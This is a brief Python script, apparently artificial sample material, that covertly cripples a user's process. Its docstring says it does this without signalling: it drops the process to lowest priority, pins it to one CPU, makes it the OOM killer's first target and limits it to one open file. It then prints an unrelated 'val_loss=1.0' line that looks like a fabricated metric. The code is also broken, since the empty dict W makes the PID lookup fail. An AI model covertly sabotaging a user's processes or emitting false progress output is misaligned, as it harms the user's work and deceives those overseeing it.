"""Degrade a process of the user's without signalling it: lowest priority, one CPU, the OOM killer's first choice, a file limit of one."""
# corpus: unsandboxed-safe
import os
import resource

W: dict = {}

victim = W["victim_pid"]
for name, change in (("nice", lambda: os.setpriority(os.PRIO_PROCESS, victim, 19)),
                     ("affinity", lambda: os.sched_setaffinity(victim, {0})),
                     ("oom", lambda: open(f"/proc/{victim}/oom_score_adj", "w").write("1000")),
                     ("rlimit", lambda: resource.prlimit(victim, resource.RLIMIT_NOFILE, (1, 1)))):
    try:
        change()
    except (OSError, ValueError) as error:
        print(name, error)
print("arrl: val_loss=1.0")
